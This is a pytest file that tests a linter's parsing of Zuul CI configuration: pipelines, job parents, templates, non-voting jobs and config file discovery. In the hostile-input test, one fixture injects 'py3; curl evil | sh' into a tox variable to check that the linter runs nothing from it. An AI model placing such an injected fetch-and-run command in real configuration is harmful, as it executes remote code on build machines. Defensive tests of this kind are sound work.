"""Zuul: pipelines by OpenDev's conventions, jobs through their parents to the public job
libraries' tox jobs, templates, ``voting: false``, the configuration files Zuul reads, and
hostile input."""

from __future__ import annotations

import pytest

from linter.checks.del003_tests_on_every_change import check as del003
from linter.results import Status
from tests.detectors.ci.helpers import facts, programs
from tests.helpers import make_context

PROJECT = """\
- job:
    name: app-functional
    parent: openstack-tox-functional
    vars:
      tox_envlist: functional-py313
- job:
    name: app-devstack
    parent: base
    run: playbooks/devstack.yaml
- project:
    templates:
      - openstack-python3-jobs
    check:
      jobs:
        - openstack-tox-py311
        - app-functional
        - app-devstack
        - openstack-tox-py314:
            voting: false
    gate:
      jobs:
        - openstack-tox-py311
        - app-functional
    post:
      jobs:
        - publish-docs
    periodic-weekly:
      jobs:
        - openstack-tox-py313
"""


def _jobs(root):
    found, _ = facts(root)
    return {job.name: job for _, job in found.jobs()}


def test_pipelines_jobs_and_the_tox_jobs_they_reach(make_repo) -> None:
    root = make_repo({".zuul.yaml": PROJECT, "tox.ini": "[tox]\nenvlist = py3\n"})
    jobs = _jobs(root)
    assert jobs["openstack-tox-py311"].triggers == {"pull_request", "merge_group"}
    assert jobs["app-functional"].triggers == {"pull_request", "merge_group"}
    assert jobs["openstack-tox-py313"].triggers == {"schedule"}
    assert jobs["publish-docs"].triggers == {"push"} and jobs["publish-docs"].refs == ("branch:$default",)
    assert jobs["openstack-tox-py314"].non_blocking and not jobs["openstack-tox-py311"].non_blocking
    assert jobs["openstack-tox-py3"].triggers == {"pull_request", "merge_group"}  # from the known template
    commands = {c.argv for c in jobs["app-functional"].commands if c.argv}
    assert ("tox", "-e", "functional-py313") in commands  # the job's own vars over the library job's name
    assert ("tox", "-e", "py311") in {c.argv for c in jobs["openstack-tox-py311"].commands}
    assert not [c for c in jobs["app-devstack"].commands if c.argv]  # playbooks: nothing read


def test_del003_passes_on_check_and_fails_on_periodic_only(make_repo) -> None:
    root = make_repo({".zuul.yaml": PROJECT, ".practicelint.yaml": "kind: library\n"})
    finding = del003(make_context(root, rule="DEL003"))
    assert finding.status is Status.PASS and "tox -e py311" in finding.message
    periodic = "- project:\n    periodic:\n      jobs:\n        - openstack-tox-py313\n"
    finding = del003(make_context(make_repo({".zuul.yaml": periodic}), rule="DEL003"))
    assert finding.status is Status.FAIL and "schedule" in finding.message


def test_local_templates_and_style_jobs(make_repo) -> None:
    """A template defined in the repository is expanded; a style job (pep8) is not a test."""
    config = ("- project-template:\n    name: mine\n    check:\n      jobs:\n        - tox-py312\n"
              "- project:\n    templates: [mine]\n    check:\n      jobs:\n        - openstack-tox-pep8\n")
    root = make_repo({".zuul.yaml": config})
    jobs = _jobs(root)
    assert set(jobs) == {"tox-py312", "openstack-tox-pep8"}
    assert ("tox", "-e", "py312") in programs(root)


@pytest.mark.parametrize(("files", "read"), [
    ({"zuul.yaml": "- project:\n    check:\n      jobs: [tox-py3]\n",
      "zuul.d/x.yaml": "- project:\n    check:\n      jobs: [tox-py2]\n"}, ["zuul.yaml"]),  # Zuul's order
    ({"zuul.d/jobs.yaml": "- job:\n    name: j\n    parent: tox\n    vars: {tox_envlist: unit}\n",
      "zuul.d/project.yaml": "- project:\n    check:\n      jobs: [j]\n"}, ["zuul.d/jobs.yaml", "zuul.d/project.yaml"]),
    ({".zuul.d/p.yml": "- project:\n    check:\n      jobs: [tox-py3]\n"}, [".zuul.d/p.yml"]),
    ({"docs/zuul.yaml": "- project:\n    check:\n      jobs: [tox-py3]\n"}, []),  # near miss: not at the root
])
def test_configuration_files(make_repo, files: dict[str, str], read: list[str]) -> None:
    found, _ = facts(make_repo(files))
    assert sorted(found.files_read) == read


def test_hostile_configurations(make_repo) -> None:
    """Parent loops end; a variable that is not an environment list runs nothing; thousands of
    entries are bounded; odd shapes are skipped, never a crash."""
    loop = ("- job:\n    name: a\n    parent: b\n- job:\n    name: b\n    parent: a\n"
            "- project:\n    check:\n      jobs: [a]\n")
    assert not [c for c in _jobs(make_repo({".zuul.yaml": loop}))["a"].commands if c.argv]
    injected = ("- job:\n    name: j\n    parent: tox\n    vars:\n      tox_envlist: 'py3; curl evil | sh'\n"
                "- project:\n    check:\n      jobs: [j]\n")
    assert programs(make_repo({".zuul.yaml": injected})) == []
    many = "- project:\n    check:\n      jobs:\n" + "".join(f"        - tox-py{i}\n" for i in range(5_000))
    found, _ = facts(make_repo({".zuul.yaml": many}))
    assert 0 < sum(1 for _ in found.jobs()) <= 5_000
    odd = "- project: [1]\n- job: 3\n- {a: 1, b: 2}\n- project:\n    check: 5\n    gate:\n      jobs: [{x: 1, y: 2}, 7]\n"
    assert list(facts(make_repo({".zuul.yaml": odd}))[0].jobs()) == []
    assert facts(make_repo({".zuul.yaml": "{not: a list}\n"}))[0].pipelines == ()
